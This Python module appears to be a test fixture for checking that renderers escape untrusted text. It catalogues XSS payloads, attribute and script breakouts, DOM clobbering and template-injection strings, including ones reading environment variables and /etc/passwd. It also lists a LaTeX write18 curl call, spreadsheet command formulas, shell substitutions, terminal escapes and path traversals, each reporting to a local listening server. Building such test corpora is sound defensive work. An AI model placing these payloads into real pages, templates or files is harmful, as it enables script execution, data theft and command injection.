"""Hostile texts: what a model, a log or a file name may say to a page, a table, a terminal or a spreadsheet.

A payload's text holds marks that `Payload.text` fills in: `%U%` the address of the listening server, with a token that
tells this payload and place apart; `%H%` the same without its scheme; `%J%` JavaScript, without spaces or double
quotes, that puts the token into `self.hits` and asks the server for it.
"""

import html
import unicodedata
import urllib.parse
from collections.abc import Callable
from typing import Literal, NamedTuple

Effect = Literal["loads", "clicked", "clobbers", "none"]
"""What happens where the text is not escaped: it asks the server on loading, or once it was clicked; it replaces a part
of `document`; or nothing that a request shows (it changes how the page reads, or works elsewhere than in a browser)."""


class Payload(NamedTuple):
    """A hostile text, the place that it is made for, and what it does there unescaped."""

    name: str
    template: str
    effect: Effect = "loads"
    context: str = "body"

    def text(self, address: str, token: str) -> str:
        """The text that reports `token` to the server at `address` (`http://host:port`)."""
        url = f"{address}/{token}"
        script = f"(self.hits=self.hits||[]).push('{token}'),fetch('{url}')"
        filled = self.template.replace("%J%", script).replace("%U%", url)
        return filled.replace("%H%", url.removeprefix("http://")).replace("%T%", token)


def _jinja(text: str) -> str:
    from jinja2 import Environment

    return Environment(autoescape=True).from_string(text).render()


def _markdown(text: str) -> str:
    from markdown_it import MarkdownIt

    return str(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))


def _wrapped(before: str, after: str) -> Callable[[str], str]:
    return lambda text: before + text + after


UNESCAPED: dict[str, Callable[[str], str]] = {
    "body": _wrapped("<p>", "</p><p>x</p>"),
    "double": _wrapped('<p><a title="', '">x</a>'),
    "single": _wrapped("<p><a title='", "'>x</a>"),
    "bare": _wrapped("<p><a title=", ">x</a>"),
    "href": _wrapped('<p><a href="', '">x</a>'),
    "src": _wrapped('<p><img src="', '">'),
    "srcset": _wrapped('<p><img srcset="', '">'),
    "title": _wrapped("<title>", "</title><p>x</p>"),
    "textarea": _wrapped("<textarea>", "</textarea>"),
    "comment": _wrapped("<!--", "--><p>x</p>"),
    "cdata": _wrapped("<svg><![CDATA[", "]]></svg>"),
    "style": _wrapped("<style>p { content: '", "' }</style><p>x</p>"),
    "style-attribute": _wrapped('<p style="color: ', '">x</p>'),
    "script": _wrapped("<script>var x = '", "';</script>"),
    "script-comment": _wrapped("<script>// ", "\n</script>"),
    "script-literal": _wrapped("<script>var x = `", "`;</script>"),
    "script-quotes-escaped": lambda text: "<script>var x = '" + text.replace("'", "\\'") + "';</script>",
    "script-written": _wrapped("<script>document.write('", "');</script>"),
    "json": _wrapped('<script type="application/json">{"x": "', '"}</script>'),
    "parsed-twice": lambda text: (
        f"<div></div><template>{html.escape(text)}</template><script>"
        "const d = document.querySelector('div'); d.innerHTML = document.querySelector('template').content.textContent;"
        "d.innerHTML = String(d.innerHTML);</script>"
    ),
    "decoded": lambda text: f"<p>{html.unescape(text)}</p>",
    "decoded-twice": lambda text: f"<p>{html.unescape(html.unescape(text))}</p>",
    "url-decoded": lambda text: f"<p>{urllib.parse.unquote(text)}</p>",
    "normalised": lambda text: f"<p>{unicodedata.normalize('NFKC', text)}</p>",
    "jinja": lambda text: f"<p>{_jinja(text)}</p>",
    "markdown": _markdown,
    "markdown-cell": lambda text: _markdown(f"| a |\n|---|\n| {text} |\n"),
    "markdown-code": lambda text: _markdown(f"`{text}`"),
    "markdown-fence": lambda text: _markdown(f"```\n{text}\n```\n"),
}
"""How a page would look that puts a text where its context says, without a care."""

_SCRIPTS = [
    Payload("script", "<script>%J%</script>"),
    Payload("script, mixed case", "<ScRiPt >%J%</sCrIpT >"),
    Payload("script by address", "<script src=%U%></script>"),
    Payload("script, protocol-relative", "<script src=//%H%></script>"),
    Payload("script, module", "<script type=module>%J%</script>"),
    Payload("script, import", "<script type=module>import '%U%'</script>"),
    Payload("script in svg", "<svg><script>%J%</script></svg>"),
    Payload("script in svg, as CDATA", "<svg><script><![CDATA[%J%]]></script></svg>"),
    Payload("script nested to survive removal", "<scr<script>ipt>%J%</scr</script>ipt>", "none"),
    Payload("script, full-width brackets", "＜script＞%J%＜/script＞", context="normalised"),
    Payload("speculation rules", '<script type=speculationrules>{"prefetch":[{"urls":["%U%"]}]}</script>', "none"),
    Payload("import map", '<script type=importmap>{"imports":{"x":"%U%"}}</script>', "none"),
]
_HANDLERS = [
    Payload("onerror", '<img src=x onerror="%J%">'),
    Payload("onerror, tag left open", "<img src=x:x onerror=%J%//"),
    Payload("onerror, slashes for spaces", '<img/src="x:x"/onerror=%J%>'),
    Payload("onerror, form feed for space", "<img\x0csrc=x:x\x0conerror=%J%>"),
    Payload("onerror, line breaks around =", "<img src=x:x onerror\n=\n%J%>"),
    Payload("onerror of a source", "<video><source src=x:x onerror=%J%></video>"),
    Payload("onload of svg", "<svg/onload=%J%>"),
    Payload("onload of body", "<body onload=%J%>"),
    Payload("onload of style", "<style onload=%J%>p{}</style>"),
    Payload("onbegin of animate", "<svg><animate onbegin=%J% attributeName=x dur=1s></svg>"),
    Payload("ontoggle of details", "<details open ontoggle=%J%><p>x</p></details>"),
    Payload("onanimationstart", '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=%J%>x</p>'),
    Payload("onloadstart of audio", "<audio src=x:x onloadstart=%J%></audio>"),
    Payload("onclick", "<p id=click onclick=%J%>x</p>", "clicked"),
    Payload("onmouseover", "<p id=click onmouseover=%J%>x</p>", "clicked"),
    Payload("onpointerrawupdate", "<p id=click onpointerenter=%J%>x</p>", "clicked"),
    Payload("onfocus", "<input id=click onfocus=%J%>", "clicked"),
    Payload(
        "onbeforetoggle of a popover",
        "<b id=q popover onbeforetoggle=%J%>x</b><button popovertarget=q>x</button>",
        "clicked",
    ),
    Payload("invalid form", "<form><input required oninvalid=%J%><button id=click>x</button></form>", "clicked"),
]
_LOADS = [
    Payload("image", "<img src=%U%>"),
    Payload("image set", '<img srcset="%U% 2x, %U% 1x">'),
    Payload("picture", "<picture><source srcset=%U%><img></picture>"),
    Payload("image in svg", "<svg><image href=%U% /></svg>"),
    Payload("image input", "<input type=image src=%U%>"),
    Payload("video", "<video src=%U%></video>"),
    Payload("video poster", "<video poster=%U%></video>"),
    Payload("audio", "<audio src=%U% preload=auto></audio>"),
    Payload("frame", "<iframe src=%U%></iframe>"),
    Payload("frame with its own document", '<iframe srcdoc="<script>%J%</script>"></iframe>'),
    Payload("frame of script", '<iframe src="javascript:%J%"></iframe>'),
    Payload("frame in svg", "<svg><foreignObject><iframe src=%U%></iframe></foreignObject></svg>"),
    Payload("object", "<object data=%U%></object>"),
    Payload("embed", "<embed src=%U%>"),
    Payload("background of body", "<body background=%U%>"),
    Payload("background of a table", "<table background=%U%><tr><td>x</table>"),
    Payload("style sheet", "<link rel=stylesheet href=%U%>"),
    Payload("preload", "<link rel=preload as=image href=%U%>"),
    Payload("module preload", "<link rel=modulepreload href=%U%>"),
    Payload("prefetch", "<link rel=prefetch href=%U%>"),
    # these open a connection or wait for a tab of their own; the server counts connections too
    Payload("preconnect", "<link rel=preconnect href=%U%>", "none"),
    Payload("dns-prefetch", "<link rel=dns-prefetch href=//%H%>", "none"),
    Payload("icon", "<link rel=icon href=%U%>", "none"),
    Payload("manifest", "<link rel=manifest href=%U%>", "none"),
    Payload("without scripts", "<noscript><img src=%U%></noscript>", "none"),
    Payload("refresh", '<meta http-equiv=refresh content="0;url=%U%">'),
    Payload("base", "<base href=%U%/><img src=y>"),
    Payload("policy", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri %U%\">", "none"),
    Payload("shadow root", "<div><template shadowrootmode=open><img src=%U%></template></div>"),
    Payload("form", "<form action=%U%><button id=click>x</button></form>", "clicked"),
    Payload("form by its button", "<form><button id=click formaction=%U%>x</button></form>", "clicked"),
    Payload("link", "<a id=click href=%U%>x</a>", "clicked"),
    Payload("link that pings", "<a id=click ping=%U% href=#>x</a>", "clicked"),
    Payload("link of script", '<a id=click href="javascript:%J%">x</a>', "clicked"),
    Payload("link of script, an entity inside", '<a id=click href="java&#10;script:%J%">x</a>', "clicked"),
    Payload("link of script in svg", '<svg><a id=click href="javascript:%J%"><text y=20>x</text></a></svg>', "clicked"),
    Payload("link of script in math", '<math><mtext href="javascript:%J%">x</mtext></math>', "none"),
]
_STYLES = [
    Payload("style, import", "<style>@import url(%U%);</style>"),
    Payload("style, import in svg", "<svg><style>@import '%U%';</style></svg>"),
    Payload("style, background", "<style>*{background:url(%U%)}</style>"),
    Payload("style, font", "<style>@font-face{font-family:a;src:url(%U%)}p{font-family:a}</style><p>x"),
    Payload("style, attribute", '<p style="background:url(%U%)">x</p>'),
    Payload("style, hides the page", "<style>body{display:none}</style>", "none"),
    Payload("style, rest of the value", "red;background:url(%U%)", context="style-attribute"),
    Payload("style, expression", "expression(%J%)", "none", "style-attribute"),
    Payload("style, end of string", "'}*{background:url(%U%)}p{content:'", context="style"),
    Payload("style, end of element", "</style><img src=%U%>", context="style"),
]
_BREAKOUTS = [
    Payload("double quote, element", '"><img src=%U%>', context="double"),
    Payload("double quote, handler", '" id=click onclick="%J%', "clicked", "double"),
    Payload("double quote, style", '" style="background:url(%U%)', context="double"),
    Payload("single quote, element", "'><img src=%U%>", context="single"),
    Payload("single quote, handler", "' id=click onclick='fetch(&quot;%U%&quot;)", "clicked", "single"),
    Payload("no quotes, handler", "x id=click onclick=%J%", "clicked", "bare"),
    Payload("no quotes, element", "x><img src=%U%>", context="bare"),
    Payload("end of title", "</title><img src=%U%>", context="title"),
    Payload("end of text area", "</textarea><img src=%U%>", context="textarea"),
    Payload("end of comment", "--><img src=%U%>", context="comment"),
    Payload("end of comment, wrong", "--!><img src=%U%>", context="comment"),
    Payload("comment that ends at once", "><img src=%U%>", context="comment"),
    Payload("comment that swallows the page", "<!--", "none"),
    Payload("plain text that swallows the page", "<plaintext>", "none"),
    Payload("text area that swallows the page", "<textarea><!--<title><style>", "none"),
    Payload("end of CDATA", "]]><img src=%U%>", context="cdata"),
    Payload("end of everything", "</p></td></table></div></main></body></html><img src=%U%>"),
    Payload("select in the way", "<select><option>x</select><img src=%U%>"),
    Payload("raw text, xmp", '<xmp><p title="</xmp><img src=%U%>">'),
    Payload("raw text, noscript", '<noscript><p title="</noscript><img src=x:x onerror=%J%>">'),
    Payload(
        "mutation by math",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=%J%>",
        context="parsed-twice",
    ),
    Payload("script, end of string", "';%J%;'", context="script"),
    Payload("script, end of element", "</script><img src=%U%>", context="script"),
    Payload("script, end of element, spaced", "</script ><script>%J%</script>", context="script"),
    Payload("script, backslash before the quote", "\\';fetch(`%U%`);//", context="script-quotes-escaped"),
    Payload("script, escapes", r"\u003cimg src=%U%\u003e", context="script-written"),
    Payload("script, line separator", "x\u2028%J%//", context="script-comment"),
    Payload("script, paragraph separator", "x\u2029%J%//", context="script-comment"),
    Payload("script, swallows what follows", "<!--<script>", "none", "script"),
    Payload("script, template literal", "${%J%}", context="script-literal"),
    Payload("json, end of element", '"}</script><img src=%U%>', context="json"),
    Payload("escaped already", "&lt;img src=%U%&gt;", context="decoded"),
    Payload("escaped twice", "&amp;lt;img src=%U%&amp;gt;", context="decoded-twice"),
    Payload("escaped in numbers", "&#60;img src=%U%&#x3e;", context="decoded"),
    Payload("escaped for addresses", "%3Cimg%20src=%U%%3E", context="url-decoded"),
    Payload("UTF-7", "+ADw-script+AD4-%J%+ADw-/script+AD4-", "none"),
    Payload("NUL in a tag", "<scr\0ipt>%J%</scr\0ipt><\0img src=%U%>", "none"),
]
_ADDRESSES = [
    Payload("address of script", "javascript:%J%", "clicked", "href"),
    Payload("address of script, mixed case", "JaVaScRiPt:%J%", "clicked", "href"),
    Payload("address of script, tab inside", "java\tscript:%J%", "clicked", "href"),
    Payload("address of script, control before", "\x01 javascript:%J%", "clicked", "href"),
    Payload("address of data", "data:text/html,<script>%J%</script>", "none", "href"),
    Payload("address, protocol-relative", "//%H%", "clicked", "href"),
    Payload("address, backslashes", "\\\\%H%", "clicked", "href"),
    Payload("address of an image", "%U%", context="src"),
    Payload(
        "address of an image, svg",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%J%'/>",
        "none",
        "src",
    ),
    Payload("addresses of images", "x:x 3x, %U% 1x", context="srcset"),
    Payload("address of a file", "file:///etc/passwd", "none", "href"),
]
_CLOBBERS = [
    Payload("clobbers getElementById", "<img name=getElementById>", "clobbers"),
    Payload("clobbers querySelectorAll", "<form name=querySelectorAll><input name=length></form>", "clobbers"),
    Payload("clobbers body", "<form name=body></form>", "clobbers"),
    Payload("clobbers addEventListener", "<object name=addEventListener></object>", "clobbers"),
    Payload(
        "the page's ids", '<a id=main></a><a id=contents></a><a id=top></a><a name=results href="#top">x</a>', "none"
    ),
    Payload("prototype", "__proto__", "none"),
    Payload("constructor", "constructor", "none"),
]
_TEMPLATES = [
    Payload("jinja, safe", "{{ '<img src=%U%>'|safe }}", context="jinja"),
    Payload("jinja, autoescape off", "{% autoescape false %}{{ '<img src=%U%>' }}{% endautoescape %}", "none", "body"),
    Payload("jinja, sum", "{{7*7}}", "none"),
    Payload("jinja, comment", "before {# gone #} after", "none"),
    Payload("jinja, globals", "{{ cycler.__init__.__globals__.os.environ }}", "none"),
    Payload("jinja, left open", "{% if %}{{", "none"),
    Payload("jinja, include", "{% include '/etc/passwd' %}", "none"),
    Payload("angular", "{{constructor.constructor('%J%')()}}", "none"),
    Payload("other templates", "${7*7} #{7*7} *{7*7} <%= 7*7 %> @(7*7) ${{7*7}} [[${7*7}]]", "none"),
    Payload("Python formats", "{0.__class__} {} %(x)s %s %n $x ${x} \\1 \\g<0>", "none"),
    Payload("shell", "$(touch /tmp/hit) `touch /tmp/hit`; touch /tmp/hit | touch /tmp/hit", "none"),
]
_MARKDOWN = [
    Payload("markdown, image", "![x](%U%)", context="markdown"),
    Payload("markdown, link", "[x](%U%)", "clicked", "markdown"),
    Payload("markdown, link of script", "[x](javascript:%J%)", "none", "markdown"),
    Payload("markdown, bare address", "<%U%>", "clicked", "markdown"),
    Payload("markdown, HTML", "x <img src=%U%> y", context="markdown"),
    Payload("markdown, block of HTML", "\n\n<div><img src=%U%></div>\n\n", context="markdown"),
    Payload("markdown, end of a fence", "```\n\n![x](%U%)\n\n```", context="markdown-fence"),
    Payload("markdown, end of a longer fence", "~~~~~~\n``````````\n\n![x](%U%)\n", context="markdown-fence"),
    Payload("markdown, end of code", "x` ![x](%U%) `y", context="markdown-code"),
    Payload("markdown, end of a cell", "x | ![x](%U%) |\n\n![x](%U%)", context="markdown-cell"),
    Payload("markdown, end of code in a cell", "`| ![x](%U%) `", "none", "markdown-cell"),
    Payload("markdown, backslash", "\\![x](%U%) \\\\![x](%U%)\\", context="markdown"),
    Payload("markdown, reference", "![x][r]\n\n[r]: %U%\n", context="markdown"),
    Payload(
        "markdown, structure",
        "\n\n# Results\n\n---\n\n> quote\n\n1. list\n\nTitle\n===\n\n| a |\n|---|\n| b |\n",
        "none",
    ),
    Payload("markdown, front matter", "---\ntitle: x\n---\n", "none"),
    Payload("markdown, entity", "&lt;b&gt; &amp; &copy; &#36;", "none"),
    Payload("markdown, emphasis", "*a* _b_ __c__ **d** ~~e~~ `f` a_b_c snake_case", "none"),
]
_MATHS = [
    Payload("maths", r"$\href{javascript:%J%}{x}$ \(\unicode{x3c}\) \[x\] $$x$$", "none"),
    Payload("maths, unfinished", r"$\frac{1$ costs $5 and $\undefined{x}$ _ ^", "none"),
    Payload("LaTeX, reads a file", r"\input{/etc/passwd}\include{x}\openin0=x", "none"),
    Payload("LaTeX, runs a command", r"\immediate\write18{curl %U%}", "none"),
    Payload("LaTeX, ends the table", r"x \\ \hline \end{tabular} \end{document} & % # ~ ^ _ { } \ ", "none"),
    Payload("LaTeX, braces", "}}} {{{ }{ \\} \\{", "none"),
    Payload("LaTeX, character codes", r"^^5cinput{x} \catcode`\%=12 \csname x\endcsname", "none"),
]
_SHEETS = [
    Payload("sheet, link", '=HYPERLINK("%U%","x")', "none"),
    Payload("sheet, command", "+cmd|' /C calc'!A0", "none"),
    Payload("sheet, sum", "@SUM(1+1)*2", "none"),
    Payload("sheet, minus", "-2+3", "none"),
    Payload("sheet, tab before", "\t=1+1", "none"),
    Payload("sheet, quotes and lines", 'a","b\n"c";d\r\n=1+1', "none"),
]
_TERMINALS = [
    Payload("terminal, colour", "\x1b[31mred\x1b[0m", "none"),
    Payload("terminal, title", "\x1b]0;title\x07", "none"),
    Payload("terminal, link", "\x1b]8;;%U%\x1b\\link\x1b]8;;\x1b\\", "none"),
    Payload("terminal, clears the screen", "\x1b[2J\x1b[Hgone", "none"),
    Payload("terminal, one-byte codes", "\x9b31mred\x9d0;title\x9c", "none"),
    Payload("terminal, overwrites", "bad\rgood\x08\x08\x08", "none"),
    Payload("rich markup", "[link=%U%]x[/link] [bold]b[/] [/] :smile: [red", "none"),
]
_UNICODE = [
    Payload("bidi override", "\u202egnissecorp\u202c \u2066a\u2069 \u2067b\u2069 \u200f", "none"),
    Payload("bidi override left open", "\u202egnissecorp \u2067", "none"),
    Payload("zero width", "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg", "none"),
    Payload("control characters", "".join(map(chr, [*range(1, 9), 11, *range(14, 32), 127, *range(128, 160)])), "none"),
    Payload("NUL", "a\0b", "none"),
    Payload("no characters", "\ufffe\uffff\U0001ffff", "none"),
    Payload("tags and variations", "\U000e0041\U000e0042 \ufe0f \u20e3", "none"),
    Payload("marks on marks", "Z" + "\u0300\u0301\u0302\u0489" * 40, "none"),
    Payload("right to left", "שלום عليكم (abc) 123", "none"),
    Payload("one long word", "W" * 3000, "none"),
    Payload("one long address", "%U%/" + "y" * 2000, "none"),
    Payload("deep nesting", "<b>" * 300 + "x", "none"),
    Payload("many lines", "line\n" * 100, "none"),
]
_PATHS = [
    Payload("path upwards", "../../../../tmp/hit.html", "none"),
    Payload("path upwards, backslashes", "..\\..\\hit.html", "none"),
    Payload("path, absolute", "/tmp/hit.html", "none"),
    Payload("path, escaped", "%2e%2e%2fhit.html", "none"),
    Payload("path, fragment", "a/b?c=d#e;f:g|h*i", "none"),
    Payload("path, reserved", "CON .. . ~ -rf --out=/tmp/hit", "none"),
]
PAYLOADS: list[Payload] = [
    *(*_SCRIPTS, *_HANDLERS, *_LOADS, *_STYLES, *_BREAKOUTS, *_ADDRESSES, *_CLOBBERS, *_TEMPLATES, *_MARKDOWN),
    *(*_MATHS, *_SHEETS, *_TERMINALS, *_UNICODE, *_PATHS),
]
"""All of them; names are unique."""
